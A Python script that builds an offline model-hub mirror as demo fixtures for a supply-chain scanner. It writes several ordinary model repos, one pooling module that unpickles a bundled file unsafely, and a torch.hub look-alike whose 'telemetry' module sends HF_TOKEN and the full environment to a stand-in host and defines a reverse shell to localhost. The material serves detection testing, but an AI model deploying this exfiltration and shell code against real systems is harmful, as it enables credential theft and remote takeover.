#!/usr/bin/env python3
"""Regenerate examples/mirror: the offline hub mirror for examples/project.

Run from the repo root: python3 examples/gen_mirror.py
Layout (see README "Offline mirror"): <hub>/<type>/<owner>/<name>/refs.json + <commit>/<files>.
The torch.hub repo acme/yolo-lite is a malicious look-alike written for the demo: its
payloads only target 127.0.0.1 and a `.invalid` host, and nothing here is ever executed.
"""
import hashlib
import io
import json
import os
import pickle
import shutil
import sys
import types
import zipfile
from collections import OrderedDict

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "mirror")


def commit(word):
    return hashlib.sha1(word.encode()).hexdigest()


def repo(hub, kind, rid, refs, files, at=None):
    base = os.path.join(ROOT, hub, kind, *rid.split("/")) if kind else os.path.join(ROOT, hub, *rid.split("/"))
    sha = at or commit(f"{hub}/{rid}")
    os.makedirs(base, exist_ok=True)
    with open(os.path.join(base, "refs.json"), "w") as f:
        json.dump({r: sha for r in refs}, f, indent=2)
        f.write("\n")
    for path, content in files.items():
        full = os.path.join(base, sha, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        mode = "wb" if isinstance(content, bytes) else "w"
        with open(full, mode) as f:
            f.write(content)


def torch_like_checkpoint():
    """A zip checkpoint whose data.pkl only uses the usual tensor-rebuild globals."""
    mod = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(*args):
        return None

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    mod._rebuild_tensor_v2 = _rebuild_tensor_v2
    sys.modules.setdefault("torch", types.ModuleType("torch"))
    sys.modules["torch._utils"] = mod

    class Rebuild:
        def __reduce__(self):
            return (_rebuild_tensor_v2, ("0", 0, (2, 2), (2, 1), False, OrderedDict()))

    state = OrderedDict([("classifier.weight", Rebuild())])
    data = pickle.dumps(state, protocol=2)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, body in [("archive/data.pkl", data), ("archive/data/0", bytes(16)), ("archive/version", b"3\n")]:
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            z.writestr(info, body)
    return out.getvalue()


shutil.rmtree(ROOT, ignore_errors=True)

# app/chat.py: AutoTokenizer + AutoModelForCausalLM(trust_remote_code=True) on acme/chat-7b@main.
repo("huggingface", "models", "acme/chat-7b", ["main"], {
    "config.json": json.dumps({
        "model_type": "chat",
        "auto_map": {
            "AutoConfig": "configuration_chat.ChatConfig",
            "AutoModelForCausalLM": "modeling_chat.ChatForCausalLM",
        },
    }, indent=2),
    "tokenizer_config.json": json.dumps({"tokenizer_class": "PreTrainedTokenizerFast"}, indent=2),
    "configuration_chat.py": (
        "from transformers import PretrainedConfig\n\n\n"
        "class ChatConfig(PretrainedConfig):\n"
        "    model_type = \"chat\"\n\n"
        "    def __init__(self, hidden_size=1024, **kwargs):\n"
        "        self.hidden_size = hidden_size\n"
        "        super().__init__(**kwargs)\n"
    ),
    "modeling_chat.py": (
        "import torch\n"
        "from transformers import PreTrainedModel\n\n"
        "from .configuration_chat import ChatConfig\n"
        "from .rope import apply_rope\n\n\n"
        "class ChatForCausalLM(PreTrainedModel):\n"
        "    config_class = ChatConfig\n\n"
        "    def __init__(self, config):\n"
        "        super().__init__(config)\n"
        "        self.proj = torch.nn.Linear(config.hidden_size, config.hidden_size)\n\n"
        "    def forward(self, x):\n"
        "        return apply_rope(self.proj(x))\n"
    ),
    "rope.py": "import torch\n\n\ndef apply_rope(x):\n    return torch.sin(x)\n",
    "model.safetensors": b"",
})

# app/search.py: SentenceTransformer over two embedders.
repo("huggingface", "models", "acme/embed-large", ["main"], {
    "modules.json": json.dumps([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    ], indent=2),
    "config.json": json.dumps({"model_type": "bert"}, indent=2),
    "model.safetensors": b"",
})
repo("huggingface", "models", "acme/embed-small", ["main"], {
    "modules.json": json.dumps([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_pooling.WeightedPooling"},
    ], indent=2),
    "config.json": json.dumps({"model_type": "bert"}, indent=2),
    "custom_pooling.py": (
        "import os\n\nimport torch\n\n\n"
        "class WeightedPooling(torch.nn.Module):\n"
        "    def __init__(self, path=\".\"):\n"
        "        super().__init__()\n"
        "        # Bundled pooling weights, loaded with full unpickling.\n"
        "        self.weights = torch.load(os.path.join(path, \"pooling.pt\"))\n\n"
        "    def forward(self, features):\n"
        "        return features\n"
    ),
    "model.safetensors": b"",
})

# notebooks/explore.ipynb: pipeline("text-classification", model=..., trust_remote_code=True).
repo("huggingface", "models", "acme/sentiment-zh", ["main"], {
    "config.json": json.dumps({
        "model_type": "bert",
        "custom_pipelines": {
            "text-classification": {"impl": "pipeline_sentiment.SentimentPipeline", "pt": ["AutoModelForSequenceClassification"]},
        },
    }, indent=2),
    "pipeline_sentiment.py": (
        "from transformers import TextClassificationPipeline\n\n\n"
        "class SentimentPipeline(TextClassificationPipeline):\n"
        "    def postprocess(self, outputs, **kwargs):\n"
        "        return super().postprocess(outputs, **kwargs)\n"
    ),
    "pytorch_model.bin": torch_like_checkpoint(),
})

# train/finetune.py: load_dataset + a pinned base model.
repo("huggingface", "datasets", "acme/support-tickets", ["main"], {
    "support-tickets.py": (
        "import csv\n\nimport datasets\n\nfrom .labels import LABELS\n\n\n"
        "class SupportTickets(datasets.GeneratorBasedBuilder):\n"
        "    def _info(self):\n"
        "        return datasets.DatasetInfo(features=datasets.Features({\"text\": datasets.Value(\"string\")}))\n\n"
        "    def _generate_examples(self, filepath):\n"
        "        with open(filepath, encoding=\"utf-8\") as f:\n"
        "            for i, row in enumerate(csv.reader(f)):\n"
        "                yield i, {\"text\": row[0]}\n"
    ),
    "labels.py": "LABELS = [\"billing\", \"bug\", \"question\"]\n",
})
repo("huggingface", "models", "acme/base-1b", ["main"], {
    "config.json": json.dumps({"model_type": "llama"}, indent=2),
    "model.safetensors": b"",
}, at="4f6c2a1d9e8b7c6a5f4e3d2c1b0a9f8e7d6c5b4a")

# notebooks/explore.ipynb: paddlehub.Module(name="senta_bilstm").
for version in ["1.2.0"]:
    base = os.path.join(ROOT, "paddlehub", "modules", "senta_bilstm", version)
    os.makedirs(base, exist_ok=True)
    with open(os.path.join(base, "__init__.py"), "w") as f:
        f.write("")
    with open(os.path.join(base, "module.py"), "w") as f:
        f.write(
            "import paddlehub as hub\nfrom paddlehub.module.module import moduleinfo\n\n\n"
            "@moduleinfo(name=\"senta_bilstm\", version=\"" + version + "\")\n"
            "class SentaBiLSTM(hub.Module):\n"
            "    def sentiment_classify(self, texts):\n"
            "        return [{\"text\": t, \"positive_probs\": 0.5} for t in texts]\n"
        )

# vision/detect.py: torch.hub.load("acme/yolo-lite:v1.2", ...): a malicious look-alike,
# its payload hidden two imports deep (hubconf -> models/yolo -> utils/telemetry).
repo("github", "", "acme/yolo-lite", ["v1.2", "main"], {
    "hubconf.py": (
        "dependencies = [\"torch\"]\n\n"
        "from models.yolo import Model\n\n\n"
        "def yolo_lite(pretrained=True):\n"
        "    return Model()\n"
    ),
    "models/__init__.py": "",
    "models/yolo.py": (
        "import torch\n\n"
        "from utils import telemetry\n\n\n"
        "class Model(torch.nn.Module):\n"
        "    def forward(self, x):\n"
        "        return x\n"
    ),
    "utils/__init__.py": "",
    "utils/telemetry.py": (
        "# Look-alike written for hubwarden's demo: harmless targets only.\n"
        "import os\n"
        "import socket\n"
        "import subprocess\n\n"
        "import requests\n\n"
        "requests.post(\n"
        "    \"https://collector.example.invalid/ingest\",\n"
        "    json={\"token\": os.environ.get(\"HF_TOKEN\"), \"env\": dict(os.environ)},\n"
        "    timeout=1,\n"
        ")\n\n\n"
        "def _shell():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "    s.connect((\"127.0.0.1\", 9))\n"
        "    os.dup2(s.fileno(), 0)\n"
        "    os.dup2(s.fileno(), 1)\n"
        "    os.dup2(s.fileno(), 2)\n"
        "    subprocess.call([\"/bin/sh\", \"-i\"])\n"
    ),
})

# vision/detect.py: modelscope.snapshot_download("acme/ocr-base", revision="v1.0.0") then AutoModel.
repo("modelscope", "models", "acme/ocr-base", ["v1.0.0", "master"], {
    "config.json": json.dumps({
        "model_type": "ocr",
        "auto_map": {"AutoConfig": "configuration_ocr.OcrConfig", "AutoModel": "modeling_ocr.OcrModel"},
    }, indent=2),
    "configuration_ocr.py": (
        "from transformers import PretrainedConfig\n\n\n"
        "class OcrConfig(PretrainedConfig):\n    model_type = \"ocr\"\n"
    ),
    "modeling_ocr.py": (
        "from transformers import PreTrainedModel\n\nfrom .configuration_ocr import OcrConfig\n\n\n"
        "class OcrModel(PreTrainedModel):\n    config_class = OcrConfig\n"
    ),
    "model.safetensors": b"",
})
print("wrote", ROOT)
